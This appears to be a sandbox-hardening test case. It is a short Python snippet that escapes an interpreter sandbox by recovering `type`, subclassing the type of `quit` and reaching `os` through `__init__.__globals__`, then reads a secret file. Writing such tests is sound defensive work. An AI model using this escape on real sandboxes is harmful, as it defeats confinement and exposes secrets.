# class: denied builtins come back
# technique: a class method bound to a value gives its class, and the metaclass makes classes
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
u = chr(95) * 2
def name(*parts):
    return "".join([u, *parts, u])
Wrapper = kind(int)("Wrapper", (kind(quit),), {name("call"): lambda self: self})
made = Wrapper("x", "y")
import operator
g = operator.attrgetter(name("init") + "." + name("glo", "bals"))(made)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
